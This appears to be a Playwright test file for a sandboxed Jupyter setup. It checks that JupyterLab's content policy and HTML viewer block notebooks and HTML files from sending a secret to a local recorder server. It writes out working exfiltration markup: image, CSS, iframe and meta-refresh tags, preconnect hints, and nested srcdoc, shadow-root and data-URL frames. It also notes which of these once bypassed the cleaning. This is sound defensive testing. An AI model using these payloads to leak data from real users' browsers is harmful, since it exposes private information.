"""What a sandbox writes into its workspace, opened in JupyterLab, sends nothing out.

The ratchet cuts the sandbox's network; the browser keeps its own. A private
session can write its data into a file of its workspace (any cell can: the
workspace is read-write, tests/test_attacks.py) as the address of an image, a
style or a frame, and JupyterLab fetches that address when the user opens the
file: a notebook's markdown cells and HTML outputs on disk (not the outputs the
kernel sanitised on their way), an HTML file in the HTML viewer. The files here
are written by the test as such a cell would write them; the "attacker" is a
server on 127.0.0.1 (another origin than the Lab's) that records every request.

The Lab's Content-Security-Policy (sandbox_kernel/lab_content_policy.py, applied
by scripts/lab_config.py and by every test server) keeps every such fetch in
the page: the recorder hears nothing, and the browser says it refused.
"""

from __future__ import annotations

import base64
import html
import json
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest
from kernel_helpers import LoopbackHTTPServer, LoopbackListener
from lab_helpers import LabServer, code_cell, notebook_json
from playwright.sync_api import Page, expect

from sandbox_kernel.lab_content_policy import content_security_policy

pytestmark = pytest.mark.timeout(240)

APP_LOAD_TIMEOUT = 60_000
SECRET = "patient-4711"


class Recorder(LoopbackHTTPServer):
    """An HTTP server on 127.0.0.1 that keeps the path of every request."""

    def __init__(self) -> None:
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: object) -> None:
                pass

        self.heard = heard
        super().__init__(Handler)


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    try:
        yield server
    finally:
        server.close()


def _leaky_html(base: str, where: str) -> str:
    return (
        f'<img src="{base}/{where}-img?d={SECRET}">'
        f'<div style="background-image: url({base}/{where}-css?d={SECRET})">styled</div>'
        f'<link rel="stylesheet" href="{base}/{where}-link?d={SECRET}">'
        f'<iframe src="{base}/{where}-frame?d={SECRET}"></iframe>'
    )


def _leaky_notebook(base: str) -> dict[str, Any]:
    notebook = notebook_json()
    notebook["cells"] = [
        {
            "cell_type": "markdown",
            "id": "md",
            "metadata": {},
            "source": f"# Report\n\n![chart]({base}/md-image?d={SECRET})\n\n" + _leaky_html(base, "md"),
        },
        code_cell(
            "code",
            "show()",
            [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": _leaky_html(base, "out"), "text/plain": "<HTML>"},
                },
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/markdown": f"![m]({base}/out-md?d={SECRET})", "text/plain": "md"},
                },
            ],
            execution_count=1,
        ),
    ]
    return notebook


def _refusals(console: list[str]) -> list[str]:
    return [line for line in console if "Content Security Policy" in line]


def test_the_lab_serves_its_pages_with_the_policy(lab: LabServer) -> None:
    request = urllib.request.Request(lab.url("/lab"))
    with urllib.request.urlopen(request, timeout=30) as response:
        header = response.headers["Content-Security-Policy"]
        assert response.headers["X-DNS-Prefetch-Control"] == "off"
    assert header == content_security_policy("/"), header
    assert "img-src 'self' data: blob:" in header and "connect-src 'self'" in header


def test_a_private_sessions_files_opened_in_lab_fetch_nothing(page: Page, lab: LabServer, recorder: Recorder) -> None:
    folder = lab.notebooks / "leaky"
    folder.mkdir()
    (folder / "report.ipynb").write_text(json.dumps(_leaky_notebook(recorder.base)))
    refresh = f'<meta http-equiv="refresh" content="0;url={recorder.base}/file-refresh?d={SECRET}">'
    (folder / "page.html").write_text(
        f"<html><head>{refresh}</head><body>" + _leaky_html(recorder.base, "file") + "</body></html>"
    )
    console: list[str] = []
    page.on("console", lambda msg: console.append(msg.text))

    page.goto(lab.url("/lab/tree/leaky/report.ipynb?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
    rendered = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown img")
    expect(rendered.first).to_have_attribute("src", f"{recorder.base}/md-image?d={SECRET}", timeout=APP_LOAD_TIMEOUT)
    # the HTML output is rendered too (sanitised, its image kept): only the policy stops the fetch
    expect(page.locator(".jp-OutputArea-output img").first).to_be_attached(timeout=30_000)

    page.goto(lab.url("/lab/tree/leaky/page.html"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
    expect(page.locator("iframe").first).to_be_attached(timeout=APP_LOAD_TIMEOUT)

    page.wait_for_timeout(3000)  # what the viewer's frame loads, it loads at once
    assert recorder.heard == [], f"the browser fetched what a sandbox wrote: {recorder.heard}"
    refused = _refusals(console)
    assert any("md-image" in line for line in refused), console[-20:]
    assert any("out-img" in line for line in refused), console[-20:]
    assert any("file-img" in line for line in refused), console[-20:]


def test_resource_hints_in_an_html_file_reach_nothing(page: Page, lab: LabServer) -> None:
    """Chromium connects for <link rel=preconnect> and resolves for dns-prefetch
    whatever the page's policy says: a host name can carry a private session's
    data. The HTML viewer gets the file without its resource hints."""
    listener = LoopbackListener()
    try:
        folder = lab.notebooks / "hints"
        folder.mkdir()
        hints = "".join(
            f'<link rel="{rel}" href="http://127.0.0.1:{listener.port}/{rel}?d={SECRET}">'
            for rel in ("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender")
        )
        page_html = (
            f'<html><head><link rel="PreConnect  other" href="http://127.0.0.1:{listener.port}">{hints}'
            '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["/x"]}]}</script>'
            '<link rel="stylesheet" href="data:text/css,p{color:red}">'
            '</head><body><p id="kept">kept</p></body></html>'
        )
        (folder / "page.html").write_text(page_html)
        page.goto(lab.url("/lab/tree/hints/page.html?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
        frame = page.frame_locator(".jp-HTMLViewer iframe")
        expect(frame.locator("#kept")).to_have_text("kept", timeout=APP_LOAD_TIMEOUT)
        page.wait_for_timeout(2000)  # a preconnect goes out as the frame parses its head
        assert listener.accepted == 0, f"the browser connected {listener.accepted} time(s) for a resource hint"
        head = frame.locator("head")
        assert head.locator("link").count() == 1  # the stylesheet: the page's policy governs it
        assert head.locator("script").count() == 0
        assert "preconnect" not in head.inner_html().lower()
    finally:
        listener.close()


def test_documents_inside_an_html_file_reach_nothing(page: Page, lab: LabServer) -> None:
    """A page holds documents the viewer's frame builds without another look:
    a ``srcdoc`` frame's, a template's that becomes a shadow tree, a ``data:``
    URL frame's. With only the page itself cleaned, a preconnect in each
    reached the network (srcdoc 2 connections, shadow tree 2, data: HTML 2,
    data: SVG 1)."""
    names = ("srcdoc", "shadow", "data_html", "data_svg", "srcdoc_in_template", "template_in_srcdoc")
    listeners = {name: LoopbackListener() for name in names}
    try:

        def hint(name: str) -> str:
            return f'<link rel="preconnect" href="http://127.0.0.1:{listeners[name].port}">'

        def data_url(kind: str, text: str) -> str:
            return f"data:{kind};base64," + base64.b64encode(text.encode()).decode()

        def srcdoc(text: str) -> str:
            return html.escape(text, quote=True)

        xhtml_hint = (
            '<svg xmlns="http://www.w3.org/2000/svg"><h:link xmlns:h="http://www.w3.org/1999/xhtml" '
            f'rel="preconnect" href="http://127.0.0.1:{listeners["data_svg"].port}"/></svg>'
        )
        page_html = (
            '<p id="kept">kept</p>'
            f'<iframe id="plain" srcdoc="{srcdoc("<p>inner text</p>")}"></iframe>'
            f'<iframe srcdoc="{srcdoc(hint("srcdoc") + "<p>x</p>")}"></iframe>'
            f'<div><template shadowrootmode="open">{hint("shadow")}<p>shadow</p></template></div>'
            f'<iframe src="{data_url("text/html", hint("data_html"))}"></iframe>'
            f'<iframe src=" {data_url("image/svg+xml", xhtml_hint)}"></iframe>'
            f'<div><template shadowrootmode="open"><iframe srcdoc="{srcdoc(hint("srcdoc_in_template"))}">'
            "</iframe></template></div>"
            f'<iframe srcdoc="{srcdoc("<div><template shadowrootmode=open>" + hint("template_in_srcdoc") + "</template></div>")}">'
            "</iframe>"
        )
        folder = lab.notebooks / "nested"
        folder.mkdir()
        (folder / "page.html").write_text(page_html)
        page.goto(lab.url("/lab/tree/nested/page.html?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
        frame = page.frame_locator(".jp-HTMLViewer iframe")
        expect(frame.locator("#kept")).to_have_text("kept", timeout=APP_LOAD_TIMEOUT)
        expect(frame.frame_locator("#plain").locator("p")).to_have_text("inner text")  # a frame without hints stays
        page.wait_for_timeout(2000)
        reached = {name: listener.accepted for name, listener in listeners.items() if listener.accepted}
        assert not reached, f"the browser connected for hints inside the page: {reached}"
    finally:
        for listener in listeners.values():
            listener.close()
